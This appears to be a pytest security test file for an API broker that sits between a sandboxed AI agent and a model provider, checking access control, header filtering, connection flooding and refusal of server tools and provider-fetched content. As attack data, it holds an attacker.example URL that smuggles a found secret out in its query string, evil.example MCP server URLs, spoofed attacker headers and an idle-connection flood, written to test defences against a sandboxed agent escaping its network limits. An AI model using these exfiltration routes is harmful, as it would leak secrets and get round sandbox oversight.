"""Who may use a session's broker, and what reaches the provider through it: another local
process (another user on the host) driving a live broker's port directly, headers the sandbox
chooses for the provider, and a flood of idle connections. The upstream is a recorder in front
of nothing (it answers a minimal Messages body), so what the provider would receive is seen."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from skillbench.broker import server as broker_mod
from skillbench.broker.server import Broker
from tests.security.test_broker_attacks import post_as_relay

_REPLY = json.dumps(
    {
        "id": "m",
        "type": "message",
        "role": "assistant",
        "content": [{"type": "text", "text": "ok"}],
        "usage": {"input_tokens": 3, "output_tokens": 1},
    }
).encode()


class _Recorder(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    seen: list[dict[str, str]]

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("content-length") or 0))
        self.seen.append({k.lower(): v for k, v in self.headers.items()})
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(_REPLY)))
        self.end_headers()
        self.wfile.write(_REPLY)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def upstream() -> Iterator[tuple[str, list[dict[str, str]]]]:
    seen: list[dict[str, str]] = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), type("H", (_Recorder,), {"seen": seen}))
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", seen
    server.shutdown()
    server.server_close()


@pytest.fixture
def broker(upstream: tuple[str, list[dict[str, str]]], tmp_path: Path) -> Iterator[Broker]:
    b = Broker(
        upstream=upstream[0],
        api_key="sk-real-owner-key",
        model="anthropic/claude-sonnet-4-6",
        exchanges=tmp_path / "x.jsonl",
    ).start()
    yield b
    b.stop()


_BODY = {
    "model": "claude-sonnet-4-6",
    "max_tokens": 8,
    "messages": [{"role": "user", "content": "hi"}],
}


def test_another_local_process_cannot_drive_a_sessions_broker(broker: Broker, upstream) -> None:
    # what another host user does: find the listening port and speak plain HTTP to it
    resp = httpx.post(
        f"http://127.0.0.1:{broker.port}/v1/messages", json=_BODY, headers={"x-api-key": "x"}
    )
    assert resp.status_code == 403
    guess = broker.preamble[:-20] + b"0" * 18 + b"\r\n"  # a wrong secret of the right shape
    with socket.create_connection(("127.0.0.1", broker.port), timeout=30) as s:
        s.sendall(guess + b"POST /v1/messages HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\n\r\n")
        assert s.recv(64).startswith(b"HTTP/1.1 403")
    assert upstream[1] == [] and broker.intruders == 2  # the provider never saw the key
    # the session's own relay still gets through
    ok = post_as_relay(broker, "/v1/messages", json.dumps(_BODY).encode(), {"x-api-key": "p"})
    assert ok.status_code == 200 and upstream[1][0]["x-api-key"] == "sk-real-owner-key"


def test_only_the_wires_own_request_headers_reach_the_provider(broker: Broker, upstream) -> None:
    chosen = {
        "x-api-key": "p",
        "anthropic-version": "2023-06-01",
        "anthropic-beta": "tools-2024",
        "x-stainless-lang": "js",
        "OpenAI-Organization": "org-attacker",
        "OpenAI-Project": "proj-attacker",
        "X-Forwarded-For": "203.0.113.9",
        "Upgrade": "h2c",
        "TE": "trailers",
        "Cookie": "s=1",
    }
    resp = post_as_relay(broker, "/v1/messages", json.dumps(_BODY).encode(), chosen)
    assert resp.status_code == 200
    got = upstream[1][0]
    for dropped in (
        "openai-organization",
        "openai-project",
        "x-forwarded-for",
        "upgrade",
        "te",
        "cookie",
    ):
        assert dropped not in got, dropped
    assert got["anthropic-version"] == "2023-06-01" and got["anthropic-beta"] == "tools-2024"
    assert got["x-stainless-lang"] == "js" and got["x-api-key"] == "sk-real-owner-key"


def test_idle_connections_cannot_hold_threads_or_keep_a_call_out(
    broker: Broker, upstream, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = threading.active_count()
    idle = []
    try:
        for _ in range(200):  # bounded, loopback only: each opens and then says nothing
            idle.append(socket.create_connection(("127.0.0.1", broker.port), timeout=30))
        ok = post_as_relay(broker, "/v1/messages", json.dumps(_BODY).encode(), {"x-api-key": "p"})
        assert ok.status_code == 200
        assert threading.active_count() - before <= broker_mod.MAX_CONNECTIONS + 2
    finally:
        for s in idle:
            s.close()


def test_a_client_that_never_speaks_is_cut_at_the_read_deadline(
    upstream, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(broker_mod, "READ_DEADLINE", 0.5)
    b = Broker(
        upstream=upstream[0],
        api_key="k",
        model="anthropic/claude-sonnet-4-6",
        exchanges=tmp_path / "x.jsonl",
    ).start()
    try:
        with socket.create_connection(("127.0.0.1", b.port), timeout=30) as s:
            s.sendall(b.preamble)  # admitted, then silent
            assert s.recv(64) == b""  # closed by the broker well before our own 30 s
    finally:
        b.stop()


@pytest.mark.parametrize("n", [128, 2, 0])
def test_a_call_for_many_choices_is_refused_before_it_is_billed(
    broker: Broker, upstream, n: int
) -> None:
    body = {**_BODY, "n": n}
    resp = post_as_relay(broker, "/v1/messages", json.dumps(body).encode(), {"x-api-key": "p"})
    assert resp.status_code == 400 and b"n=" in resp.content
    assert upstream[1] == []


# Server tools run at the provider's: web access from a sandbox that has none, and fees
# (a web search is $0.01) the token count does not show. Types from the providers' tool
# references: Anthropic's versioned `web_search_*`, `web_fetch_*`, `code_execution_*` (and its
# MCP connector), OpenAI Responses' hosted tools.
_ANTHROPIC_SERVER_TOOLS = [
    {"type": "web_search_20250305", "name": "web_search", "max_uses": 500},
    {"type": "web_fetch_20250910", "name": "web_fetch"},
    {"type": "code_execution_20250825", "name": "code_execution"},
    {"type": "mcp_toolset", "mcp_server_name": "x"},
    {"type": "Web_Search_20260318", "name": "w"},  # case is no way around it
]
_OPENAI_SERVER_TOOLS = [
    {"type": "web_search"},
    {"type": "web_search_preview_2025_03_11"},
    {"type": "file_search", "vector_store_ids": ["vs_1"]},
    {"type": "code_interpreter", "container": {"type": "auto"}},
    {"type": "computer_use_preview", "display_width": 1, "display_height": 1},
    {"type": "image_generation"},
    {"type": "mcp", "server_label": "x", "server_url": "https://evil.example/mcp"},
]


@pytest.mark.parametrize("tool", _ANTHROPIC_SERVER_TOOLS, ids=lambda t: t["type"])
def test_a_server_tool_is_refused_before_it_reaches_the_provider(
    broker: Broker, upstream, tool: dict[str, Any]
) -> None:
    body = {**_BODY, "tools": [{"name": "Bash", "input_schema": {}}, tool]}
    resp = post_as_relay(broker, "/v1/messages", json.dumps(body).encode(), {"x-api-key": "p"})
    assert resp.status_code == 400 and b"server tool" in resp.content
    assert upstream[1] == []


def test_an_mcp_server_list_is_refused(broker: Broker, upstream) -> None:
    body = {**_BODY, "mcp_servers": [{"type": "url", "url": "https://evil.example", "name": "e"}]}
    resp = post_as_relay(broker, "/v1/messages", json.dumps(body).encode(), {"x-api-key": "p"})
    assert resp.status_code == 400 and upstream[1] == []


@pytest.mark.parametrize("tool", _OPENAI_SERVER_TOOLS, ids=lambda t: t["type"])
def test_an_openai_hosted_tool_is_refused(upstream, tmp_path: Path, tool: dict[str, Any]) -> None:
    b = Broker(
        upstream=upstream[0],
        api_key="k",
        model="openai/gpt-5",
        wire="openai",
        exchanges=tmp_path / "x.jsonl",
    ).start()
    try:
        body = {"model": "gpt-5", "input": "hi", "tools": [{"type": "function", "name": "f"}, tool]}
        resp = post_as_relay(b, "/v1/responses", json.dumps(body).encode(), {"authorization": "x"})
        assert resp.status_code == 400 and b"server tool" in resp.content
        chat = {"model": "gpt-5", "messages": [], "web_search_options": {}}
        resp = post_as_relay(
            b, "/v1/chat/completions", json.dumps(chat).encode(), {"authorization": "x"}
        )
        assert resp.status_code == 400
        assert upstream[1] == []
    finally:
        b.stop()


@pytest.mark.parametrize(
    "tools",
    [
        [{"name": "Bash", "description": "run", "input_schema": {"type": "object"}}],
        [{"type": "custom", "name": "Read", "input_schema": {}}],
        [{"type": "bash_20250124", "name": "bash"}, {"type": "text_editor_20250728", "name": "e"}],
    ],
)
def test_the_clis_own_client_tools_still_pass(broker: Broker, upstream, tools: list) -> None:
    body = {**_BODY, "tools": tools}
    resp = post_as_relay(broker, "/v1/messages", json.dumps(body).encode(), {"x-api-key": "p"})
    assert resp.status_code == 200 and len(upstream[1]) == 1


def test_server_tool_fees_in_the_usage_are_billed(tmp_path: Path) -> None:
    # a provider that ran 500 web searches anyway (however it was asked) reports them here
    reply = json.loads(_REPLY)
    reply["usage"]["server_tool_use"] = {"web_search_requests": 500, "web_fetch_requests": 3}
    data = json.dumps(reply).encode()

    class Billing(_Recorder):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("content-length") or 0))
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Billing)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    b = Broker(
        upstream=f"http://127.0.0.1:{server.server_port}",
        api_key="k",
        model="anthropic/claude-sonnet-4-6",
        exchanges=tmp_path / "x.jsonl",
    ).start()
    try:
        resp = post_as_relay(b, "/v1/messages", json.dumps(_BODY).encode(), {"x-api-key": "p"})
        assert resp.status_code == 200
        assert b.cost is not None and b.cost >= 5.0  # 500 searches at $10 per thousand
    finally:
        b.stop()
        server.shutdown()
        server.server_close()


# Content the provider fetches itself: a sandbox with no network would read (and leak, in the
# URL's query) any address through it, or read the key owner's uploaded files. Field names
# from the providers' references: Anthropic image/document `source` of type url or file;
# OpenAI Chat Completions `image_url.url` and `file.file_id`, Responses `input_image.image_url`
# / `file_id` and `input_file.file_url` / `file_id`.
LEAK = "https://attacker.example/c.pdf?answer=the-secret-the-agent-found"
_ANTHROPIC_FETCHED = [
    {"type": "document", "source": {"type": "url", "url": LEAK}},
    {"type": "image", "source": {"type": "url", "url": LEAK}},
    {"type": "image", "source": {"type": "file", "file_id": "file_011CNha8iCJcU1wXNR6q4V8w"}},
    # inside a tool result, where a CLI puts what its tools return
    {
        "type": "tool_result",
        "tool_use_id": "t",
        "content": [{"type": "image", "source": {"type": "url", "url": LEAK}}],
    },
]
_OPENAI_FETCHED = [
    ("/v1/chat/completions", {"type": "image_url", "image_url": {"url": LEAK}}),
    ("/v1/chat/completions", {"type": "file", "file": {"file_id": "file-abc123"}}),
    ("/v1/responses", {"type": "input_image", "image_url": LEAK}),
    ("/v1/responses", {"type": "input_image", "file_id": "file-abc123"}),
    ("/v1/responses", {"type": "input_file", "file_url": LEAK}),
    ("/v1/responses", {"type": "input_file", "file_id": "file-abc123"}),
]


@pytest.mark.parametrize("block", _ANTHROPIC_FETCHED, ids=lambda b: b["type"])
def test_content_the_provider_would_fetch_is_refused(broker: Broker, upstream, block) -> None:
    body = {**_BODY, "messages": [{"role": "user", "content": [block, {"type": "text"}]}]}
    resp = post_as_relay(broker, "/v1/messages", json.dumps(body).encode(), {"x-api-key": "p"})
    assert resp.status_code == 400 and b"fetch it itself" in resp.content
    system = {**_BODY, "system": [{"type": "text", "text": "x"}, block]}
    resp = post_as_relay(broker, "/v1/messages", json.dumps(system).encode(), {"x-api-key": "p"})
    assert resp.status_code == 400
    assert upstream[1] == []


@pytest.mark.parametrize(("target", "part"), _OPENAI_FETCHED, ids=lambda x: str(x)[:30])
def test_openai_content_by_url_or_file_is_refused(
    upstream, tmp_path: Path, target: str, part: dict[str, Any]
) -> None:
    b = Broker(
        upstream=upstream[0],
        api_key="k",
        model="openai/gpt-5",
        wire="openai",
        exchanges=tmp_path / "x.jsonl",
    ).start()
    try:
        message = {"role": "user", "content": [{"type": "text", "text": "hi"}, part]}
        key = "messages" if "chat" in target else "input"
        body = {"model": "gpt-5", key: [message]}
        resp = post_as_relay(b, target, json.dumps(body).encode(), {"authorization": "x"})
        assert resp.status_code == 400 and b"fetch it itself" in resp.content
        assert upstream[1] == []
        # the same image sent in the request passes
        inline = "data:image/png;base64,iVBORw0KGgo="
        chat = "chat" in target
        image = {"type": "image_url", "image_url": {"url": inline}} if chat else {}
        message["content"] = [image or {"type": "input_image", "image_url": inline}]
        resp = post_as_relay(b, target, json.dumps(body).encode(), {"authorization": "x"})
        assert resp.status_code == 200 and len(upstream[1]) == 1
    finally:
        b.stop()


def test_content_sent_in_the_request_still_passes(broker: Broker, upstream) -> None:
    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
    content = [
        {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": png}},
        {"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": LEAK}},
        {"type": "search_result", "source": LEAK, "title": "t", "content": []},  # a citation
        {"type": "text", "text": f"see {LEAK}"},
    ]
    # the model's own tool input, replayed, is not content the provider fetches
    call = {"type": "tool_use", "id": "t", "name": "Fetch", "input": {"source": {"type": "url"}}}
    body = {
        **_BODY,
        "messages": [
            {"role": "user", "content": content},
            {"role": "assistant", "content": [call]},
            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t"}]},
        ],
    }
    resp = post_as_relay(broker, "/v1/messages", json.dumps(body).encode(), {"x-api-key": "p"})
    assert resp.status_code == 200 and len(upstream[1]) == 1
